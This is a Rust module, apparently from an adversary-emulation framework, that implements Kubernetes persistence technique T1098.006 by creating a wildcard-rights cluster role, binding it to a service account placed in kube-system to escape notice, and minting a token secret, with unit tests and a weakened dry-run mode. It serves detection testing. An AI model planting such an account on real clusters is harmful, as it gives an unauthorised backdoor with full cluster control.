//! T1098.006: an account that may do everything, and a door that nobody walks through.

use foil_sdk::kube::RoleRule;
use foil_sdk::prelude::*;

#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct Parameters {
    account_namespace: Place,
    token_secret: Option<bool>,
}

#[derive(serde::Deserialize, Clone, Copy, PartialEq)]
#[serde(rename_all = "kebab-case")]
enum Place {
    KubeSystem,
    Own,
}

const EVERYTHING: RoleRule<'static> = RoleRule { groups: &["*"], resources: &["*"], verbs: &["*"] };

struct AdminClusterRole;

impl Technique for AdminClusterRole {
    type Parameters = Parameters;

    fn detonate(context: &Context, parameters: &Parameters, _: &State) -> Result<Evidence> {
        // An account in `kube-system` is noticed whatever its rights are.
        let place = if context.dry { Place::Own } else { parameters.account_namespace };
        let namespace = match place {
            Place::KubeSystem => "kube-system",
            Place::Own => &context.cluster()?.namespace,
        };
        let rule = if context.dry { RoleRule::ORDINARY } else { EVERYTHING };
        let role = kube::create_cluster_role(context, "admin", rule)?;
        let account = kube::create_service_account_in(context, namespace, "admin")?;
        kube::bind_cluster_role(context, "admin", &role, &account)?;
        let rights = if context.dry { "that may read ConfigMaps (dry)" } else { "that may do everything" };
        let evidence = Evidence::new(format!("made the service account {namespace}/{} {rights}", account.name))
            .about(&role)
            .fact("account", &account.name)
            .fact("account-namespace", namespace);
        // In a namespace that others work in the token would be theirs, so that it must be asked for there.
        if context.dry || !parameters.token_secret.unwrap_or(place == Place::KubeSystem) {
            return Ok(evidence);
        }
        let secret = kube::create_token_secret(context, "admin", &account)?;
        Ok(evidence.fact("token-secret", secret.name))
    }
}

foil_sdk::technique!(AdminClusterRole);

#[cfg(test)]
mod tests {
    use super::*;
    use foil_sdk::fake;
    use foil_sdk::kube::Kind;

    fn host() -> fake::Host {
        let host = fake::Host::for_technique(include_str!("../technique.toml"));
        host.cluster();
        host
    }

    fn object(host: &fake::Host, plural: &str) -> serde_json::Value {
        host.object_now(&Kind::rbac(plural), None, &host.context().mark_for("admin")).unwrap()
    }

    #[test]
    fn role_account_binding_and_token_belong_together_in_kube_system() {
        let host = host();
        let evidence = host.detonate::<AdminClusterRole>(&[]).unwrap();
        let name = host.context().mark_for("admin");
        assert_eq!(
            host.kube_calls(),
            [
                format!("create clusterroles {name}"),
                format!("create serviceaccounts kube-system/{name}"),
                format!("create clusterrolebindings {name}"),
                format!("create secrets kube-system/{name}"),
                format!("get secrets kube-system/{name}"),
            ]
        );
        assert_eq!(object(&host, "clusterroles")["rules"][0]["verbs"][0], "*");
        let binding = object(&host, "clusterrolebindings");
        assert_eq!(binding["roleRef"]["name"], name.as_str());
        assert_eq!(binding["subjects"][0]["namespace"], "kube-system");
        let secret = host.object_now(&Kind::core("secrets"), Some("kube-system"), &name).unwrap();
        assert_eq!(secret["metadata"]["annotations"]["kubernetes.io/service-account.name"], name.as_str());
        assert_eq!(evidence.get("token-secret"), Some(name.as_str()));
    }

    #[test]
    fn elsewhere_a_token_is_made_only_where_it_is_asked_for() {
        for (token, expected) in [(None, 0), (Some(false), 0), (Some(true), 1)] {
            let host = host();
            let mut given = vec![("account-namespace", "own".into())];
            given.extend(token.map(|token: bool| ("token-secret", token.into())));
            host.detonate::<AdminClusterRole>(&given).unwrap();
            let calls = host.kube_calls();
            let made = |call: &&String| call.starts_with("create secrets security-testing/");
            assert_eq!(calls.iter().filter(made).count(), expected, "{token:?} {calls:?}");
            assert!(!calls.iter().any(|call| call.contains("kube-system")), "{calls:?}");
        }
        let host = host();
        host.detonate::<AdminClusterRole>(&[("token-secret", false.into())]).unwrap();
        assert!(!host.kube_calls().iter().any(|call| call.contains("secrets")));
    }

    #[test]
    fn the_twin_gives_no_right_worth_having_and_no_token() {
        let host = host();
        host.dry(true).detonate::<AdminClusterRole>(&[("token-secret", true.into())]).unwrap();
        assert!(!object(&host, "clusterroles")["rules"].to_string().contains('*'));
        let calls = host.kube_calls();
        assert!(!calls.iter().any(|call| call.contains("kube-system") || call.contains("secrets")), "{calls:?}");
    }
}
